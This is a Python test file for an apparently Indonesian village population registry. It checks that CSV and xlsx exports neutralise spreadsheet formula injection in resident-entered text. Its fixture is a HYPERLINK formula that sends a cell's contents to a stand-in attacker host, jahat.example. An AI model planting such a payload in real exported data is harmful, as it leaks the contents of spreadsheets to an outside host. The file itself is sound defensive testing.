"""Text a village typed (a name, an address, a dusun name) must never run as a spreadsheet
formula in any export: CSV cells starting with = + - @ get an apostrophe, xlsx cells starting
with = are stored as text, not as formulas."""
from __future__ import annotations

import csv
import io
import zipfile

from apps.kependudukan import cetak

JAHAT = '=HYPERLINK("http://jahat.example/?"&B1,"klik")'


def test_csv_cells_that_would_run_as_formulas_are_neutralised():
    baris = [[JAHAT, "+62 812", "-1", "@SUM(A1)", "Siti Aminah", 7, None]]
    isi = "".join(cetak.baris_csv(["a", "b", "c", "d", "e", "f", "g"], baris))
    data = next(csv.reader(io.StringIO(isi.splitlines()[1])))
    assert data == ["'" + JAHAT, "'+62 812", "'-1", "'@SUM(A1)", "Siti Aminah", "7", ""]


def test_xlsx_text_starting_with_equals_is_stored_as_text_not_a_formula():
    dok = cetak.Dokumen(judul="Uji", kolom=[cetak.Kolom("Nama"), cetak.Kolom("Alamat")], baris=[[JAHAT, "Jl. Uji"]])
    buf = io.BytesIO()
    cetak.tulis_xlsx(dok, buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
        sheet = next(n for n in z.namelist() if n.startswith("xl/worksheets/sheet"))
        xml = z.read(sheet).decode()
    assert "<f>" not in xml and "HYPERLINK" in xml
